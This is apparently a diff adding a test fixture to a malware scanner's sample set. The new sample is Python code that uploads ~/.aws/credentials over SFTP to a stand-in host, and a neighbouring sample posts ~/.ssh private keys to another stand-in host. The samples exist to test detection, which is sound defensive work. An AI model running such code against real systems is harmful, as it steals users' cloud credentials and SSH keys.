@@ -10,6 +10,13 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a key that is uploaded by its path',
+      files: wheel(
+        "import os, paramiko\nlink = paramiko.Transport(('sftp.weir.test', 22))\nparamiko.SFTPClient.from_transport(link).put(os.path.expanduser('~/.aws/credentials'), '/x')\n",
+      ),
+      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
       name: 'Python: keys that a folder lists',
       files: wheel(
         "import pathlib, requests\nfor key in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    requests.post('https://a.weir.test/k', files={'f': key.read_bytes()})\n",
